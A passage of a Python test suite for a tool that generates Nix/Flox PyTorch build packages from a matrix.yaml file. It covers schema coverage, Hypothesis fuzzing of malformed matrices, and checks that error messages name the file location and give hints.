            upstream_wheels: true, driver_branch: 999,
            older_cudnn: {version: "8.5", cuda: "<=12.8", source: a support matrix}}
  cuda:
    "12.8": {driver: "570.26", windows_driver: "570.65", capabilities: ["9.0"], gcc: 14, msvc: [1910, 1950]}
  toolkit:
    "12.4": {driver: "550.54.14", windows_driver: "551.61", gcc: 13, msvc: [1910, 1950]}
  minor_compat:
    "12": {driver: "525.60.13", windows_driver: "", source: our reading of NVIDIA's table}
  python:
    "3.12": {}
  isa:
    avx10: {arch: x86_64, flags: [-mavx10.1], msvc: /arch:AVX10, cpuinfo: [avx10], disable: [NNPACK], cpus: [Next],
            rank: 60, capabilities: [DEFAULT, AVX2, AVX512], choose_when: an AVX10 CPU}
  accelerator:
    metal2: {arch: aarch64, blas: vecLib, description: Metal 2, environment: {USE_MPS: "1"}}
  rocm:
    "6.4": {targets: [gfx942, gfx1010], hosts: [x86_64], source: our reading of clr}
  pytorch:
    "2.8": {python: ["3.9", "3.13"], cuda: ["12.6", "12.8"], experimental_cuda: ["12.9"],
            wheels: [{cuda: "12.8", system: x86_64-linux, index: pip, arch: "9.0;13.0+PTX", source: a wheel we read,
                      inferred: from a nightly of the same week,
                      gaps: [{library: libtorch_cuda_linalg.so, lacks: "9.0", holds: its linear algebra,
                              source: our cuobjdump of the wheel}]}],
            latest: "2.8.0", source_cuda: "<13.0", default_python: "3.12"}
  workarounds:
    old-cmake: {why: an example of a hand-build workaround, source: our build log, pip: ["setuptools<74"],
                env: {CMAKE_POLICY_VERSION_MINIMUM: "3.5"}, cmake: ">=4",
                when: {pytorch: "<2.8", cuda: ">=11.0", system: [Windows], kind: [gpu]}}
  build_costs:
    gpu: {minutes: 240, cores: 64, memory_gb: 256, disk_gb: 200, source: our runners, cached_percent: 55,
          cached_source: our runners with ccache}
  compile_jobs:
    cuda: {memory_gb: 6, source: our builders' logs}
  nixpkgs_off:
    NCCL: {when: jetson_build, switches: [USE_NCCL], why: our reading of nixpkgs, source: our reading of nixpkgs}
  pins:
    0123456789abcdef0123456789abcdef01234567:
      {torch: "2.8.0", torchvision: "0.23.0", torchaudio: "2.8.0", cuda: {"12.8": "12.8.1"},
       cuda_aliases: {cudaPackages: "12.8"}, capabilities: {"12.8": ["9.0"]}, python: ["3.12", "3.13"],
       python_default: "3.13", carries: [magma-cuda13-clockrate],
       sources: {torch: our build log, python: our build log, carries: our build log}, inferred: [python]}
  other_gpus:
    gfx1010: {kind: rocm, family: RDNA, gpus: [Radeon RX 5700 XT], rocm: "6.0", source: our reading of LLVM}
  other_wheels:
    "2.8": {rocm: "6.4", gfx: "gfx1010;gfx942", xpu: "dg2,bmg", macos: "14.0", source: RELEASE.md,
            gfx_source: our build log, xpu_source: our build log, macos_source: Apple's page}
  fixes:
    hopper-only: {why: an example of a repository's own fix, file: local-fix, enabled: true, changes: derivation,
                  when: {pytorch: ">=2.8", cuda: ">=12.8,<13.0", source: true, isa: [avx2], system: [x86_64-linux],
                         kind: [gpu], pin: [hopper], compiler_cache: [ccache]}}
"""


def _subschemas(node=None):
    """Every mapping in matrix.schema.json, the file itself first."""
    if node is None:
        node = json.loads(SCHEMA_FILE.read_text(encoding="utf-8"))
    if isinstance(node, dict):
        yield node
    for child in node.values() if isinstance(node, dict) else node if isinstance(node, list) else ():
        yield from _subschemas(child)


def test_a_matrix_with_every_key_of_the_schema_passes_both(project, run):
    keys = {key for schema in _subschemas() for key in schema.get("properties", {})}
    used = set()

    def walk(value):
        if isinstance(value, dict):
            used.update(value)
            for child in value.values():
                walk(child)
        elif isinstance(value, list):
            for child in value:
                walk(child)

    walk(yaml.safe_load(EVERY_KEY))
    assert keys <= used, f"keys of the schema this test does not try: {sorted(keys - used)}"
    assert schema_errors(EVERY_KEY) == []
    write_matrix(project, EVERY_KEY)
    (project / "nix" / "fixes").mkdir(parents=True)
    (project / "nix" / "fixes" / "local-fix.nix").write_text("{ }\n")
    result = run("--root", project)
    assert result.exit_code == 0, result.output
    hopper = (project / ".flox/pkgs/t-313-12_8-sm90-avx2-pytorch.nix").read_text()
    assert 'pin = "hopper";' in hopper and '"local-fix"' in hopper  # the fix's file
    other = (project / ".flox/pkgs/t-313-12_8-sm130-avx10-pytorch.nix").read_text()
    assert 'pin = "default";' in other and '"local-fix"' not in other


SCHEMA_CASES = [c for c in CASES + BUILDER_CASES if c.schema]


@pytest.mark.parametrize("case", SCHEMA_CASES, ids=[c.id for c in SCHEMA_CASES])
def test_what_the_schema_refuses_the_loader_refuses(case, tmp_path, run):
    assert schema_errors(case.text), "the schema accepts it: editors would not warn"
    write_matrix(tmp_path, case.text)
    assert run("--root", tmp_path).exit_code == 2


# --- (6) random documents: a clean run or a located error, never a traceback -------------

LOCATED = re.compile(r"^(error|warning): \S*matrix\.yaml:\d+(:\d+)?: \S")


def assert_clean_run(text: str) -> None:
    with tempfile.TemporaryDirectory() as folder:
        root = Path(folder)
        write_matrix(root, text)
        result = CliRunner().invoke(main, ["--root", str(root)], catch_exceptions=True)
        assert result.exception is None or isinstance(result.exception, SystemExit), (
            f"{type(result.exception).__name__}: {result.exception}\n--- matrix.yaml ---\n{text}")
        assert result.exit_code in (0, 2), result.output
        event(f"exit {result.exit_code}")  # --hypothesis-show-statistics: how many documents were valid
        for line in result.stderr.splitlines():
            if not line.startswith("  "):
                assert LOCATED.match(line), f"{line!r}\n--- matrix.yaml ---\n{text}"
        if result.exit_code == 2:
            assert result.stderr.startswith("error: ")
            assert sorted(p.name for p in root.iterdir()) == ["matrix.yaml"]


def _schema_words() -> list[str]:
    words = set()
    for schema in _subschemas():
        words.update(schema.get("properties", {}))
        words.update(str(v) for v in schema.get("enum", []))
    knowledge = yaml.safe_load(KNOWLEDGE_FILE.read_text(encoding="utf-8"))
    for table in knowledge.values():
        words.update(str(name) for name in table)
    return sorted(words)


WORDS = _schema_words()
TOKENS = WORDS + [":", " ", "-", "- ", "[", "]", "{", "}", ",", '"', "'", "#", "&a", "*a", "!!str", "|", ">",
                  "\n", "\n  ", "\t", "\\", "{python}", "{isa}", "null", "true", "0", "3.10", "12.8", "-mavx2",
                  "\x00", "\x07", "\u00e9", "\ufeff", "!r", "!x", ":>3", ":d", "&b [*b]", "*b"]


# The shipped matrix, with the keys it leaves at their defaults written out, so that
# mutations reach them too.
MUTABLE = SHIPPED + """
description:
  gpu: "PyTorch {pytorch} for NVIDIA {family} GPUs ({sm}, {gpus}) and {isa} CPUs, CUDA {cuda}"
  cpu: "PyTorch {pytorch}, CPU only, for {isa} CPUs ({cpus})"
  darwin: "PyTorch {pytorch} for Apple Silicon with {accelerator}"
knowledge:
  sm:
    sm130: {capability: "13.0", family: Next, min_cuda: "13.1", hosts: [x86_64], gpus: [Example]}
  isa:
    avx10: {arch: x86_64, flags: [-mavx10.1], cpuinfo: [avx10], disable: [NNPACK]}
"""


@st.composite
def mutated_matrix(draw) -> str:
    """The shipped matrix with a few lines deleted, duplicated or moved, or tokens put in."""
    lines = MUTABLE.splitlines(keepends=True)
    for _ in range(draw(st.integers(1, 4))):
        op = draw(st.sampled_from(["delete", "duplicate", "move", "insert", "replace"]))
        i = draw(st.integers(0, len(lines) - 1))
        if op == "delete" and len(lines) > 1:
            del lines[i]
        elif op == "duplicate":
            lines.insert(i, lines[i])
        elif op == "move":
            lines.insert(draw(st.integers(0, len(lines) - 1)), lines.pop(i))
        else:
            line = lines[i]
            at = draw(st.integers(0, len(line)))
            end = at if op == "insert" else draw(st.integers(at, len(line)))
            lines[i] = line[:at] + draw(st.sampled_from(TOKENS)) + line[end:]
    return "".join(lines)


SCALARS = st.one_of(st.sampled_from(WORDS), st.sampled_from(["3.13", "12.8", "13.0", "sm90", "avx2", "x"]),
                    st.integers(-2, 40), st.booleans(), st.none(), st.text(max_size=8))


PATTERNS = st.lists(st.sampled_from(["{package}", "{python}", "{cuda}", "{sm}", "{isa}", "{accelerator}",
                                      "{pytorch}", "{family}", "{gpus}", "{cpus}", "{capability}", "{", "}",
                                      "{}", "{python!r}", "{isa:d}", "{sm!x}", "{cuda:>4}", "!r", ":d", "-", "x", "/", "..", " ", "\\", '"', "${"]),
                     max_size=8).map("".join)


def structures() -> st.SearchStrategy:
    keys = st.sampled_from(WORDS)
    return st.recursive(SCALARS, lambda inner: st.one_of(st.lists(inner, max_size=4),
                                                          st.dictionaries(keys, inner, max_size=4)), max_leaves=25)


AXIS_VALUES = {
    "python": ["3.12", "3.13"],
    "cuda": ["12.6", "12.8", "13.0"],
    "sm": ["sm61", "sm90", "sm110", "sm120", "sm121"],
    "isa": ["avx", "avx2", "armv9"],
    "accelerator": ["mps"],
}
SECTION_AXES = {"gpu": ("python", "cuda", "sm", "isa"), "cpu": ("python", "isa"), "darwin": ("python", "accelerator")}


@st.composite
def built_matrix(draw) -> str:
    """A document shaped like a matrix: sections with real values, name and description
    patterns, and now and then a random structure built from the schema's words where a
    section, a rule or a top-level key goes."""
    document = {"pytorch": {"version": "2.8.0"}, "nixpkgs": {"rev": "fe5e41d7ffc0421f0913e8472ce6238ed0daf8e3"}}
    for kind in draw(st.sets(st.sampled_from(sorted(SECTION_AXES)), min_size=1)):
        document[kind] = {axis: draw(st.lists(st.sampled_from(AXIS_VALUES[axis]), min_size=1, max_size=3, unique=True))
                          for axis in SECTION_AXES[kind]}
    for key in draw(st.sets(st.sampled_from(["naming", "description"]))):
        document[key] = {kind: draw(PATTERNS) for kind in draw(st.sets(st.sampled_from(sorted(SECTION_AXES))))}
    if draw(st.integers(0, 2)) == 0:
        document[draw(st.sampled_from(WORDS))] = draw(structures())
    if draw(st.integers(0, 2)) == 0:
        kind = draw(st.sampled_from(sorted(SECTION_AXES)))
        if isinstance(document.get(kind), dict):
            document[kind][draw(st.sampled_from(["restrict", "include", "exclude"]))] = draw(structures())
    return yaml.safe_dump(document, sort_keys=False, allow_unicode=True)


@settings(max_examples=250, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(mutated_matrix())
def test_fuzz_mutated_matrix_runs_cleanly_or_fails_located(text):
    assert_clean_run(text)


@settings(max_examples=350, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(built_matrix())
def test_fuzz_built_matrix_runs_cleanly_or_fails_located(text):
    assert_clean_run(text)


@pytest.mark.parametrize("axes, said", [
    ('gpu: {python: ["3.13"], cuda: ["12.8"], sm: [sm12O], isa: [avx2]}', "unknown sm 'sm12O'\n  hint: did you mean 'sm120'?"),
    ('cpu: {python: [3.10], isa: [avx2]}', "unknown python '3.10'\n  hint: did you mean '3.11'?"),
    ('gpu: {python: ["3.13"], cuda: ["12.7"], sm: [sm90], isa: [avx2]}', "unknown cuda '12.7'\n  hint: did you mean '12.8'?"),
])
def test_a_typo_gets_the_name_it_was_meant_for(repository, run, axes, said):
    # a letter typed for a digit, and the nearest version, rather than the most alike text
    write_matrix(repository, BASE + axes + "\n")
    result = run("--root", repository)
    assert result.exit_code == 2 and said in result.stderr, result.stderr


# ---- messages that say what is wrong, where -----------------------------------------------

_HEAD = 'pytorch: {version: "2.8.0"}\nnixpkgs: {rev: fe5e41d7ffc0421f0913e8472ce6238ed0daf8e3}\n'


@pytest.mark.parametrize("text, expected", [
    (_HEAD + 'axes: &axes {python: ["3.13"], isa: [avx2]}\ncpu:\n  <<: *axes\n',
     ["matrix.yaml:5:3: '<<' merges another mapping into this one, which gen-matrix does not do (YAML 1.2 has no "
      "merge keys)", "  hint: write the keys out here; an alias (*name) can stand for a whole value"]),
    (_HEAD + 'cpu:\n  python: ["3.13"]\n  isa: [' + ", ".join(["avx2"] * 150_000) + "]\n",
     ["matrix.yaml:5:599955: the document holds more than 100000 values",
      "  hint: a matrix holds a few hundred: is this the right file, or a list written out that its section's "
      "axes would make?"]),
    (_HEAD + 'naming: {cpu: "{package}-python{python}-cpu-{isa}-' + "x" * 250 + '"}\n'
     'cpu: {python: ["3.13"], isa: [avx2]}\n',
     ["matrix.yaml:3:15: naming.cpu makes names of more than 200 characters (266 with one character per field)",
      "  hint: shorten the text between the fields: a file name must stay under 255 bytes"]),
    (_HEAD + 'naming: {cpu: "{package}-python{python}-cpu-{isa}-' + "x" * 180 + '"}\n'
     'cpu: {python: ["3.13"], isa: [avx2]}\n',
     ["matrix.yaml:4:1: 'pytorch-python313-cpu-avx2-xxxxxxxxxxxxx...' is 207 characters long; a package name may "
      "have at most 200 (a file name, with .nix and the prefixes Flox and Nix add, must stay under 255 bytes)",
      "  hint: change naming.cpu in matrix.yaml"]),
    (_HEAD + 'cpu: {python: ["3.13"], isa: [avx2]}\ncompanions:\n  - packages: [torchvision]\n    when: {kind: tpu}\n',
     ["matrix.yaml:6:18: companions[0].when.kind: 'tpu' is not allowed here", "  hint: did you mean 'gpu'?"]),
])
def test_a_mistake_is_named_for_what_it_is(tmp_path, run, text, expected):
    (tmp_path / "matrix.yaml").write_text(text)
    result = run("--root", tmp_path)
    assert result.exit_code == 2 and [p.name for p in tmp_path.iterdir()] == ["matrix.yaml"]
    first = f"error: {tmp_path / 'matrix.yaml'}" + expected[0][len("matrix.yaml"):]
    found = result.stderr.splitlines()
    assert found[found.index(first):found.index(first) + 2] == [first, *expected[1:]]
    # and nothing else about the same mistake (the merge key, say, as a tag or an unknown key)
    assert all("'<<'" not in line for line in found if line != first)
    assert len([line for line in found if line.startswith("error: ")]) == 1 + ("&axes" in text)


def test_a_flox_manifest_that_starts_with_a_bom_is_named_for_it(project, run):
    assert run("--root", project).exit_code == 0
    manifest = project / ".flox" / "env" / "manifest.toml"
    text = manifest.read_bytes()
    manifest.write_bytes(b"\xef\xbb\xbf" + text)
    result = run("--root", project)
    assert result.exit_code == 2 and manifest.read_bytes() == b"\xef\xbb\xbf" + text
    assert result.stderr.splitlines() == [
        "error: .flox/env/manifest.toml:1:1: the file starts with a byte order mark (U+FEFF)",
        '  hint: save it as UTF-8 without a BOM (in most editors: the encoding "UTF-8", not "UTF-8 with BOM"); '
        "gen-matrix only updates a manifest it can read"]


def test_a_new_knowledge_row_near_a_built_in_ones_name_is_asked_about(project, run):
    write_matrix(project, BASE + "knowledge:\n  sm:\n    sm900: {min_cuda: \"12.0\"}\n    quantum: {family: Q}\n" + GPU)
    result = run("--root", project)
    assert result.exit_code == 2 and "Traceback" not in result.output
    where = project / "matrix.yaml"
    needs = "a new sm row needs capability, family, min_cuda, hosts; see knowledge.yaml"
    assert result.stderr.splitlines() == [
        f"error: {where}:5:12: new sm row 'sm900' lacks capability, family, hosts",
        f"  hint: did you mean 'sm90'? A row with a built-in row's name changes only the fields it gives; {needs}",
        f"error: {where}:6:14: new sm row 'quantum' lacks capability, min_cuda, hosts",
        f"  hint: {needs}"]
